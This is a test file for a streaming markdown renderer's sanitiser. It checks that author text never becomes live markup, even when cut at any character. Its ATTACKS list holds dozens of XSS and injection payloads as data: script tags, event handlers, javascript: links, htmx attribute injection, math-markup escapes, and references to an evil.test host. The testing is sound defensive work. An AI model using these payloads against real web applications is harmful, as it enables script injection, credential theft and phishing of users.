"""Nothing an author writes becomes markup of its own: in no text, cut at no place (promise 6)."""

import pytest
from hypothesis import given, settings

from boundary.markdown import StreamRenderer, render
from tests.boundary.dom import Page, parse
from tests.boundary.writing import DOCUMENTS

# Written down once more, apart from the sanitiser's own list.
TEXT = {
    "a", "blockquote", "br", "code", "del", "div", "em", "figcaption", "figure", "h3", "h4", "h5",
    "h6", "hr", "li", "ol", "p", "pre", "span", "strong", "table", "tbody", "td", "th", "thead",
    "tr", "ul",
}  # fmt: skip
FORMULA = {
    "math", "mfrac", "mi", "mn", "mo", "mover", "mpadded", "mroot", "mrow", "mspace", "msqrt",
    "mstyle", "msub", "msubsup", "msup", "mtable", "mtd", "mtext", "mtr", "munder", "munderover",
    "menclose", "mphantom", "ms",
}  # fmt: skip
ATTRIBUTES = {
    "a": {"href", "title", "target", "rel", "class"},
    "code": {"class"},
    "div": {"class", "tabindex"},
    "figure": {"class", "data-lang"},
    "ol": {"start"},
    "pre": {"class", "tabindex"},
    "span": {"class"},
    "td": {"class"},
    "th": {"class"},
}
HARMLESS = {
    "accent", "columnalign", "columnlines", "columnspacing", "display", "displaystyle", "fence",
    "form", "linethickness", "lspace", "mathvariant", "maxsize", "minsize", "movablelimits",
    "notation", "rowlines", "rowspacing", "rspace", "scriptlevel", "separator", "stretchy",
    "width", "height", "depth", "voffset", "accentunder", "largeop", "symmetric",
}  # fmt: skip

ATTACKS = [
    "<script>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<ScRiPt src=//evil.test></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.test><input name=password><button>Go</button></form>",
    "<button hx-post='/settings/delete' hx-trigger=load>x</button>",
    "<div data-hx-get='/secret' data-hx-trigger=load></div>",
    "<hx-partial target=body><p>x</p></hx-partial>",
    "<p hx-swap-oob='true' id='composer'>x</p>",
    "<head><title>x</title></head>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.test>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href=https://evil.test>",
    "<object data=x></object><embed src=x>",
    "<a href='javascript:alert(1)' id=x name=y class=z style='color:red'>x</a>",
    "<!-- <script> --><!DOCTYPE html><?php x ?><![CDATA[ x ]]>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](/admin/) [d](//evil.test) [e](?x) [f](#id)",
    "[a](<javascript:alert(1)>)\n\n[b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)> <data:text/html,x>",
    "[a](https://a.test/\"onmouseover=\"alert(1))",
    "[a](https://a.test 'x\" onclick=\"alert(1)')",
    "[a](https://a.test \"<script>alert(1)</script>\")",
    "[<img src=x onerror=alert(1)>](https://a.test)",
    "![x](javascript:alert(1)) ![y](https://evil.test/p.gif?secret) ![z](data:image/png;base64,x)",
    "![\"onload=\"alert(1)](https://a.test/x.png)",
    "[![x](https://evil.test/p.gif)](https://a.test)",
    "https://a.test/\"onmouseover=alert(1)// https://a.test/<script>",
    "`<script>alert(1)</script>` ``<img src=x>``",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html hx-get=/x onclick=alert(1)\n<p hx-get=/x>\n<script>\nalert(1)\n</script>\n```",
    "~~~x\" onload=\"y\nz",
    "    <script>alert(1)</script>\n",
    "| <script>alert(1)</script> | <b hx-get=/x> |\n|---|---|\n| <img src=x onerror=y> | `<x>` |",
    "$<script>alert(1)</script>$ and $$\\text{<img src=x onerror=alert(1)>}$$",
    "$\\href{javascript:alert(1)}{x}$ \\(\\style{color:red}{x}\\) $\\class{evil}{x}$ $\\id{x}{y}$",
    "$$\n\\text{</mtext></math><script>alert(1)</script>}\n$$",
    "\\[\\unicode{x3c}script\\unicode{x3e}\\]",
    "$\\begin{array}{<script>}x\\end{array}$",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;img src=x&#x3e;",
    "\\<script\\>alert(1)\\</script\\>",
    "> <script>\n> - <img src=x onerror=alert(1)>\n>   <p hx-get=/x>",
    "- [ ] <input type=checkbox onclick=alert(1)>\n- [x] <script>",
    "# <script>alert(1)</script>\n<h1 id=x>y</h1>\n===",
    "<scr\0ipt>alert(1)</scr\0ipt> \ud83d<script> \u2028<script>",
    "*<b* onclick=x>*</b> **<script** x>**",
]  # fmt: skip


def assert_harmless(html):
    for element in parse(html).walk():
        if element.tag == "#fragment":
            continue
        assert element.tag in TEXT | FORMULA, element.tag
        allowed = HARMLESS if element.tag in FORMULA else ATTRIBUTES.get(element.tag, set())
        assert set(element.attributes) <= allowed, (element.tag, element.attributes)
        if element.tag == "a":
            scheme = element.attributes["href"].split(":")[0].lower()
            assert scheme in ("http", "https", "mailto"), element.attributes
            assert element.attributes["rel"] == "noopener noreferrer nofollow ugc"
            assert element.attributes["target"] == "_blank"
        if "tabindex" in element.attributes:
            assert element.attributes["tabindex"] == "0"


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_stays_text_wherever_it_is_cut(text):
    assert_harmless(render(text))
    for before in ("", "words "):
        whole = before + text
        for cut in range(len(whole) + 1):
            renderer, page = StreamRenderer("#run"), Page()
            for piece in (whole[:cut], whole[cut:]):
                patches = renderer.feed(piece)
                for patch in patches:
                    assert patch.swap in ("beforeend", "outerHTML", "delete")
                    assert_harmless(patch.content)
                page.apply(patches)
            assert_harmless(renderer.snapshot())


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_stays_text_character_by_character(text):
    renderer = StreamRenderer("#run")
    for character in f"- x\n{text}\n\n{text}":
        for patch in renderer.feed(character):
            assert_harmless(patch.content)
    assert_harmless(renderer.snapshot())


@settings(max_examples=80, deadline=None, print_blob=True)
@given(DOCUMENTS)
def test_whatever_is_written_is_harmless(text):
    assert_harmless(render(text))


@pytest.mark.parametrize("class_", ["composer", "message", "htmx-indicator", "k", "code", "plain"])
def test_an_author_cannot_choose_a_class(class_):
    html = render(f"<p class={class_}>\n\n```{class_}\nx\n```\n\n$\\class{{{class_}}}{{x}}$")
    classes = {element.attributes.get("class") for element in parse(html).walk()}
    assert classes <= {None, "code", "math"}


def test_a_picture_is_a_link_that_names_its_host():
    html = render("![A cat](https://user:pw@pics.test/cat.png)")
    assert "<img" not in html
    assert ">A cat (pics.test)</a>" in html
